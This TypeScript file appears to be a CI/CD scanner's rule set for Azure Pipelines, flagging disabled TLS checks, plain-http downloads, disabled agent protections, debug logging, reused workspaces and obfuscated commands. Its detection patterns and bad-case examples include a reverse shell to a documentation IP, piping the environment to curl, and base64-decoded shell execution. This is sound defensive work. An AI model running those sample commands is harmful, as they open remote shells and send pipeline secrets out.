/** Protections of machines and connections that a pipeline switches off. Long, because each rule has its words and examples. */
import { isTrue, type MapNode, textAt, textOf, valueAt } from "../../../formats/azure-pipeline/source-node.ts";
import { hitAt } from "../../azure/hits.ts";
import type { Job, Pipeline, Step, Variable } from "../../azure/pipeline.ts";
import type { PipelineFacts } from "../../azure/pipeline-facts.ts";
import type { PipelineRule } from "../../azure/pipeline-rule.ts";
import { poolOf } from "../../azure/pool-of-job.ts";
import { anyOf, searchScripts } from "../../azure/search-scripts.ts";
import { type Answer, type Edit, type Hit, notEvaluated } from "../../cicd-rule.ts";
import { addKeys, removeSetting } from "../../edits/azure-edits.ts";

const off = "the other side's certificate is not checked";
const nothing = (): string => "";
const checked = {
  title: "Check certificates again",
  rewrites: [
    { find: /\s--(?:proxy-)?insecure(?=\s|$)/g, by: nothing },
    { find: /(?<=\bcurl\b[^\n|;&]{0,500})\s-k(?=\s|$)/g, by: nothing },
    { find: /(?<=\bcurl\b[^\n|;&]{0,500}\s-(?!k(?:\s|$))[a-jl-zA-Z]{0,20})k(?=[a-zA-Z]{0,20}(?:\s|$))/g, by: nothing },
    { find: /\s(?:--no-check-certificate|-SkipCertificateCheck)(?![\w:-])/gi, by: nothing },
    { find: /\s--(?:kube-)?insecure-skip-tls-verify(?:=true)?(?=\s|$)/gi, by: nothing },
    { find: /\s--(?:src-|dest-)?tls-verify=false(?=\s|$)/gi, by: nothing },
    { find: /(?<=\bpip[\d.]{0,5}\s[^\n|;&]{0,500})\s--trusted-host[= ]\S{1,200}/gi, by: nothing },
    { find: /\s-c\s{1,5}http(?:\.[^\s=]{1,200})?\.sslverify=(?:false|0)(?=\s)/gi, by: nothing },
    { find: /(?<=\bconfig\b[^\n|;&]{0,200}\.sslverify\s{1,5})(?:false|0)\b/gi, by: () => "true" },
    { find: /(?<=\bstrict-ssl(?:\s{1,5}|\s?=\s?))false\b/gi, by: () => "true" },
  ],
};
const unverified = anyOf(
  [
    [/\bcurl\b(?=[^\n|;&]*\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure|--proxy-insecure)(?=\s|$))/, off],
    [/\bwget\b[^\n|;&]*--no-check-certificate/, off],
    [/\bNODE_TLS_REJECT_UNAUTHORIZED\b["']?\s*[=,\]]\s*["']?0/i, off],
    [/\bGIT_SSL_NO_VERIFY\b\s*=\s*["']?(?:1|true)/i, off],
    [/\bhttp(?:\.[^\s=]{1,200})?\.sslverify["']?(?:\s+|=)["']?(?:false|0)\b/i, off],
    [/\bpip[\d.]*\s[^\n]*--trusted-host\b|\bPIP_TRUSTED_HOST\s*=/i, off],
    [/\bstrict-ssl\b["']?(?:\s+|\s*=\s*)["']?false|\bnpm_config_strict_ssl\s*=\s*["']?false/i, off],
    [/-SkipCertificateCheck\b(?!:\$false)/i, off],
    [/ServerCertificateValidationCallback\b[^\n]{0,100}\$?true/i, off],
    [/\bPYTHONHTTPSVERIFY\s*=\s*["']?0|\bHELM_KUBEINSECURE|\bverify\s*=\s*False\b/i, off],
    [
      /\b(?:kubectl|helm|oc|argocd|skopeo|az\s+acr)\b[^\n]*(?:--insecure-skip-tls-verify|--insecure-skip-tls-verify=true|--kube-insecure-skip-tls-verify|--tls-verify=false|--src-tls-verify=false|--dest-tls-verify=false|--insecure\b)/i,
      off,
    ],
    [/\bAZURE_CLI_DISABLE_CONNECTION_VERIFICATION\s*=\s*["']?1|\bADAL_PYTHON_SSL_NO_VERIFY\s*=/i, off],
    [
      /-D(?:maven\.wagon\.http\.ssl\.insecure|maven\.resolver\.transport\.http\.(?:allowInsecure|insecure)|com\.sun\.net\.ssl\.checkRevocation)[= ]*(?:true|false)/i,
      off,
    ],
    [/\bssh\b[^\n]*-o\s*["']?StrictHostKeyChecking[= ]\s*no\b/i, "the other machine's key is not checked"],
  ],
  checked,
);

const unverifiedName = /^(?:NODE_TLS_REJECT_UNAUTHORIZED|PYTHONHTTPSVERIFY)$/i;
const unverifiedTrue =
  /^(?:GIT_SSL_NO_VERIFY|agent\.skipcertvalidation|VSTS_AGENT_INPUT_SSLSKIPCERTVALIDATION|AZURE_CLI_DISABLE_CONNECTION_VERIFICATION|npm_config_insecure)$/i;

interface Setting {
  readonly name: string;
  readonly value: NonNullable<Variable["value"]>;
  readonly address: string;
  readonly removal: (title: string, safe: boolean) => Edit | undefined;
}

/** Variables of all levels and what steps get as environment. */
function settingsOf({ root, variables, stages, jobs, steps, path }: Pipeline): readonly Setting[] {
  const one = (holder: MapNode, key: "variables" | "env", name: string, value: Setting["value"]) => ({
    ...{ name, value },
    removal: (title: string, safe: boolean) => removeSetting(holder, key, value, { title, safe }),
  });
  const named = (list: readonly Variable[], address: string, holder: MapNode): readonly Setting[] =>
    list.flatMap(({ name, value, isGroup }) =>
      value && !isGroup ? [{ ...one(holder, "variables", name, value), address: `${address}/${name}` }] : [],
    );
  return [
    ...named(variables, path, root),
    ...stages.flatMap((stage) => named(stage.variables, stage.name, stage.node)),
    ...jobs.flatMap((job) => named(job.variables, job.address, job.node)),
    ...steps.flatMap(({ env, address, node }) =>
      env.map(({ name, value }) => ({ ...one(node, "env", name, value), address })),
    ),
  ];
}

function tlsSettings(pipeline: Pipeline): readonly Hit[] {
  return settingsOf(pipeline).flatMap(({ name, value, address, removal }) => {
    const text = textOf(value)?.trim() ?? "";
    const isOff =
      (unverifiedName.test(name) && text === "0") || (unverifiedTrue.test(name) && /^(?:1|true)$/i.test(text));
    return isOff ? [{ ...hitAt(value, { address, why: off }), edit: () => removal(`Remove ${name}`, false) }] : [];
  });
}

const plainAddress =
  /(?:\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|git\s+clone|git\s+remote\s+add|pip[\d.]*\s+install|npm|yarn|nuget|dotnet|helm|docker|add-apt-repository|apt-key|gem|maven|mvn|start-bitstransfer)\b[^\n]{0,1500}?|(?:--registry|--index-url|--extra-index-url|--source|-Uri)[= ]\s*["']?|\bdeb\s+(?:\[[^\]]*\]\s+)?|downloadstring\(["']|downloadfile\(["'])(?:http|ftp|git):\/\/(?!localhost\b|127\.|0\.0\.0\.0|\[?::1|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|host\.docker\.internal|169\.254\.|schemas\.|www\.w3\.org)[\w.$({[-]/i;
const encrypted = {
  title: "Use https",
  rewrites: [
    {
      // A port is that of one scheme only.
      find: /\bhttp(?=:\/\/(?!localhost\b|127\.|0\.0\.0\.0|\[?::1|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|host\.docker\.internal|169\.254\.|schemas\.|www\.w3\.org)[\w.$({[-][^\s/:"']{0,300}(?![\w.:-]))/gi,
      by: () => "https",
    },
  ],
};
const findPlain = anyOf([[plainAddress, "what travels there can be read and changed on the way"]], encrypted);

const obfuscated = anyOf([
  [
    /\bbase64\s+(?:-d|-D|--decode)\b[^\n|]*\|\s*(?:sudo\s+)?(?:\S*\/)?(?:ba|z|da|k)?sh\b|\bbase64\s+(?:-d|-D|--decode)\b[^\n|]*\|\s*(?:sudo\s+)?(?:python[\d.]*|perl|node|ruby)\b/i,
    "decoded text is run",
  ],
  [
    /\b(?:eval|(?:ba|z|da)?sh\s+-c)\s+["']?(?:\$\(|`)[^\n]{0,1500}(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r)/i,
    "decoded text is run",
  ],
  [
    /\bxxd\s+-r\b[^\n|]*\|\s*(?:ba|z|da)?sh\b|\becho\s+-e\s+["'](?:\\x[\da-f]{2}){8,}[^\n]*\|\s*(?:ba)?sh\b/i,
    "decoded text is run",
  ],
  [
    /(?:\biex\b|invoke-expression)[^\n]{0,1500}frombase64string|frombase64string[^\n]{0,1500}\|\s*(?:iex|invoke-expression)\b/i,
    "decoded text is run",
  ],
  [/\bpowershell(?:\.exe)?\b[^\n]{0,200}\s-(?:e|en|enc|encodedcommand)\s+[\w+/=]{20,}/i, "an encoded command is run"],
  [/\/dev\/(?:tcp|udp)\/[\w.$({-]+\/\d+/i, "a shell is opened to another machine"],
  [
    /\b(?:nc|ncat|netcat)\b[^\n]{0,200}\s-(?:\w*e\w*|-exec|-sh-exec)\s+\S*(?:sh|cmd|powershell)/i,
    "a shell is opened to another machine",
  ],
  [
    /\b(?:mkfifo|mknod)\b[^\n]{0,300}\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b/i,
    "a shell is opened to another machine",
  ],
  [
    /\b(?:printenv|env|set|export\s+-p)\b[^\n|]{0,100}\|[^\n]{0,300}\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]{0,500}(?:-d|--data\S*|--post-data|-F)[= ]\s*["']?@?(?:\$\(|`)(?:printenv|env|set)\b/i,
    "the environment is sent to another machine",
  ],
  [
    /\b(?:gci|get-childitem|dir|ls)\s+env:[^\n]{0,500}\b(?:irm|iwr|invoke-restmethod|invoke-webrequest)\b/i,
    "the environment is sent to another machine",
  ],
  [/\bexec\s*\(\s*(?:base64\.b64decode|bytes\.fromhex|zlib\.decompress|codecs\.decode)/i, "decoded text is run"],
]);

interface Knob {
  readonly name: RegExp;
  readonly value: RegExp;
  readonly why: string;
}

const knobs: readonly Knob[] = [
  {
    name: /^AZP_IGNORE_SECRETS_SHORTER_THAN$/i,
    value: /^[1-9]\d*$/,
    why: "short secrets are no longer hidden in logs",
  },
  {
    name: /^SYSTEM[._]UNSAFEALLOWMULTILINESECRET$/i,
    value: /^(?:true|1)$/i,
    why: "secrets of several lines are not hidden line by line",
  },
  {
    name: /^AZP_75787_ENABLE_NEW_LOGIC$/i,
    value: /^(?:false|0)$/i,
    why: "arguments of shell tasks are no longer cleaned",
  },
  {
    name: /^AZP_ENABLE_NEW_MASKER_AND_REGEXES$/i,
    value: /^(?:false|0)$/i,
    why: "known forms of secrets are no longer hidden in logs",
  },
  {
    name: /^DISABLE_(?:HASH|AUTHENTICODE)_VALIDATION$/i,
    value: /^(?:true|1)$/i,
    why: "updates of the agent are no longer checked",
  },
  {
    name: /^agent[._]GitUseSecureParameterPassing$/i,
    value: /^(?:false|0)$/i,
    why: "the token stands in git's command line",
  },
  {
    name: /^AZP_AGENT_ALLOW_WORK_DIRECTORY_REPOSITORIES$/i,
    value: /^(?:true|1)$/i,
    why: "repositories may be checked out over the agent's own folders",
  },
  {
    name: /^AGENT_ENFORCE_CONTAINER_VSO_PATH_VALIDATION$/i,
    value: /^(?:false|0)$/i,
    why: "paths in commands of containers are no longer checked",
  },
];

/** Of the definition and its groups: they stand in no file. */
function fromOutside(
  { root, path }: Pipeline,
  { switches = {} }: PipelineFacts,
  judge: (name: string, value: string) => string | undefined,
): readonly Hit[] {
  return Object.keys(switches).flatMap((name) => {
    const why = judge(name, switches[name] ?? "");
    if (why === undefined) return [];
    return [hitAt(root, { address: `${path}/${name}`, why: `${why}, by a variable that is set outside of the file` })];
  });
}

function knobHits(pipeline: Pipeline, facts: PipelineFacts): readonly Hit[] {
  const inSettings = settingsOf(pipeline).flatMap(({ name, value, address, removal }) => {
    const text = textOf(value)?.trim() ?? "";
    const knob = knobs.find((one) => one.name.test(name) && one.value.test(text));
    const edit = () => removal(`Remove ${name}`, false);
    return knob ? [{ ...hitAt(value, { address, why: knob.why }), edit }] : [];
  });
  const inScripts = searchScripts(pipeline, (line) => {
    const match = /##vso\[task\.setvariable\s[^\]\n]{0,200}variable=([\w.]+)[^\]\n]{0,200}\]\s*([\w]+)/i.exec(line);
    const knob = match && knobs.find((one) => one.name.test(match[1] ?? "") && one.value.test(match[2] ?? ""));
    return match && knob ? { start: match.index, end: match.index + match[0].length, why: knob.why } : undefined;
  });
  const outside = fromOutside(
    pipeline,
    facts,
    (name, value) => knobs.find((one) => one.name.test(name) && one.value.test(value))?.why,
  );
  return [...inSettings, ...inScripts, ...outside];
}

function debugHits(pipeline: Pipeline, facts: PipelineFacts): readonly Hit[] {
  const inSettings = settingsOf(pipeline).flatMap(({ name, value, address, removal }): readonly Hit[] =>
    /^(?:system[._]debug|agent[._]diagnostic)$/i.test(name) && isTrue(value)
      ? [
          {
            ...hitAt(value, { address, why: `${name} is on in every run` }),
            edit: () => removal(`Remove ${name}`, true),
          },
        ]
      : [],
  );
  const inScripts = searchScripts(
    pipeline,
    anyOf([
      [
        /##vso\[task\.setvariable\s[^\]\n]{0,200}variable=system\.debug\b[^\]\n]{0,200}\]\s*true/i,
        "system.debug is switched on",
      ],
    ]),
  );
  const outside = fromOutside(pipeline, facts, (name, value) =>
    /^(?:system[._]debug|agent[._]diagnostic)$/i.test(name) && /^true$/i.test(value)
      ? `${name} is on in every run`
      : undefined,
  );
  return [...inSettings, ...inScripts, ...outside];
}

function workspaceHits({ jobs }: Pipeline, facts: PipelineFacts): Answer {
  const hits: Hit[] = [];
  let unclear: string | undefined;
  for (const job of jobs) {
    const pool = poolOf(job, facts);
    if (pool.is === "hosted" || isClean(job)) continue;
    if (pool.is === "unknown") unclear ??= pool.name;
    else if (!pool.isEphemeral)
      hits.push({
        ...hitAt(job.pool?.node ?? job.node, { address: job.address, why: "it begins with what earlier jobs left" }),
        edit: () => addKeys(job.node, { workspace: { clean: "all" } }, { title: "Clean the workspace", safe: false }),
      });
  }
  if (hits.length > 0 || unclear === undefined) return hits;
  const missing = `Whether the machines of ${unclear} are thrown away after each job is known only from the organization's pools.`;
  return notEvaluated(facts.reasons?.pools ?? missing);
}

function isClean({ node, steps }: Job): boolean {
  const isCleaned = ({ node: step }: Step) => textAt(step, "checkout") !== undefined && isTrue(valueAt(step, "clean"));
  return /^all$/i.test(textAt(valueAt(node, "workspace"), "clean") ?? "") || steps.some(isCleaned);
}

export const rules: readonly PipelineRule[] = [
  {
    id: "cicd/azure-certificate-check-off",
    aliases: [
      "ado-yaml-tls-verification-off",
      "pipeline-check:ADO-023",
      "prisma:Certificate not verified by Azure Pipelines command",
    ],
    title: "Certificates are not checked",
    severity: "medium",
    risks: ["CICD-SEC-7"],
    why: "Anybody on the way can answer in the server's place.",
    abuse: "Somebody in the network replaces packages, or reads the tokens that are sent.",
    fix: "Install the certificate authority on the machine instead of passing the check by.",
    links: ["https://curl.se/docs/sslcerts.html"],
    check: ({ pipeline }) => [...searchScripts(pipeline, unverified), ...tlsSettings(pipeline)],
    examples: {
      bad: [
        "steps:\n- script: curl -k https://example.test/a\n",
        "steps:\n- script: git -c http.sslVerify=false clone https://example.test/r.git\n",
        "variables:\n  NODE_TLS_REJECT_UNAUTHORIZED: 0\nsteps:\n- script: npm ci\n",
      ],
      good: ["steps:\n- script: curl -fsSL https://example.test/a\n- script: git clone https://example.test/r.git\n"],
    },
  },
  {
    id: "cicd/azure-plain-transport",
    aliases: [
      "ado-yaml-plaintext-transport",
      "pipeline-check:ADO-018",
      "prisma:Azure Pipelines commands transmit data over an unencrypted channel",
    ],
    title: "Data or packages travel without encryption",
    severity: "medium",
    risks: ["CICD-SEC-3"],
    why: "Anybody on the way can read and change them.",
    abuse: "Somebody in the network puts another package or script into the answer.",
    fix: "Use https.",
    links: [],
    check: ({ pipeline }) => searchScripts(pipeline, findPlain),
    examples: {
      bad: [
        "steps:\n- script: curl http://example.test/tool.tgz\n",
        "steps:\n- script: npm ci --registry http://npm.example.test/\n",
      ],
      good: ["steps:\n- script: curl https://example.test/a && curl http://localhost:8080/health\n"],
    },
  },
  {
    id: "cicd/azure-obfuscated-command",
    aliases: ["ado-yaml-obfuscated-exec", "pipeline-check:ADO-026", "pipeline-check:ADO-027"],
    title: "A command is hidden, or opens the machine to somebody else",
    severity: "high",
    risks: ["CICD-SEC-4"],
    why: "People hardly ever write this; those who break in do.",
    abuse:
      "Somebody who may edit the pipeline, or a poisoned dependency, runs what nobody can read, or sends secrets away.",
    fix: "Take it out, and look at who brought it and at what its runs did.",
    links: [],
    check: ({ pipeline }) => searchScripts(pipeline, obfuscated),
    examples: {
      bad: [
        "steps:\n- bash: echo $DATA | base64 -d | bash\n",
        "steps:\n- bash: bash -i >& /dev/tcp/203.0.113.1/443 0>&1\n",
        "steps:\n- bash: env | curl -X POST --data-binary @- https://example.test\n",
      ],
      good: ["steps:\n- bash: echo $CERT | base64 -d > cert.pem\n- bash: make build\n"],
    },
  },
  {
    id: "cicd/azure-agent-protection-off",
    readsFacts: true,
    aliases: ["ado-yaml-agent-safety-knob-off"],
    title: "A variable switches a protection of the agent off",
    severity: "medium",
    risks: ["CICD-SEC-7"],
    why: "Secrets show up in logs, or scripts get at what the agent keeps from them.",
    abuse: "A step prints a short secret, or passes a crafted argument that the agent would have refused.",
    fix: "Remove the variable.",
    links: ["https://learn.microsoft.com/azure/devops/pipelines/agents/agents"],
    check: ({ pipeline }, facts) => knobHits(pipeline, facts),
    examples: {
      bad: [
        "variables:\n- name: AZP_75787_ENABLE_NEW_LOGIC\n  value: false\nsteps:\n- script: make\n",
        { text: "steps:\n- script: make\n", facts: { switches: { disable_hash_validation: "true" } } },
      ],
      good: ["variables:\n  AZP_75787_ENABLE_NEW_LOGIC: true\nsteps:\n- script: make\n"],
    },
  },
  {
    id: "cicd/azure-debug-committed",
    readsFacts: true,
    aliases: ["ado-yaml-debug-committed", "poutine:debug_enabled"],
    title: "Verbose diagnostics are on in every run",
    severity: "low",
    risks: ["CICD-SEC-10", "CICD-SEC-6"],
    why: "Logs say more than they need to, also about values that are close to secrets.",
    abuse: "Somebody who may read logs learns paths, arguments and parts of requests.",
    fix: "Take system.debug out, and switch it on for single runs.",
    links: ["https://learn.microsoft.com/azure/devops/pipelines/troubleshooting/review-logs"],
    check: ({ pipeline }, facts) => debugHits(pipeline, facts),
    examples: {
      bad: [
        "variables:\n  system.debug: 'true'\nsteps:\n- script: make\n",
        "variables:\n- name: System.Debug\n  value: True\nsteps:\n- script: make\n",
        { text: "steps:\n- script: make\n", facts: { switches: { "system.debug": "true" } } },
      ],
      good: ["variables:\n  system.debug: false\nsteps:\n- script: make\n"],
    },
  },
  {
    id: "cicd/azure-workspace-reused",
    readsFacts: true,
    aliases: ["ado-yaml-selfhosted-dirty-workspace"],
    title: "A job on a machine of one's own begins with what others left",
    severity: "medium",
    risks: ["CICD-SEC-7"],
    why: "Files of an earlier run become part of this one.",
    abuse: "An earlier run plants a git hook or a module, which the next job runs with its own secrets.",
    fix: "Set workspace: clean: all on the job, or use agents that are thrown away after each job.",
    links: ["https://learn.microsoft.com/azure/devops/pipelines/process/phases"],
    check: ({ pipeline }, facts) => workspaceHits(pipeline, facts),
    examples: {
      bad: [
        {
          text: "pool: own\nsteps:\n- script: make\n",
          facts: { pools: { own: { isHosted: false, isEphemeral: false } } },
        },
        {
          text: "steps:\n- script: make\n",
          facts: { defaultPool: "own", pools: { own: { isHosted: false, isEphemeral: false } } },
        },
      ],
      good: [
        {
          text: "pool: own\nsteps:\n- script: make\n",
          facts: { pools: { own: { isHosted: false, isEphemeral: true } } },
        },
        "pool:\n  vmImage: ubuntu-latest\nsteps:\n- script: make\n",
        "jobs:\n- job: a\n  pool: own\n  workspace:\n    clean: all\n  steps:\n  - script: make\n",
      ],
    },
  },
];
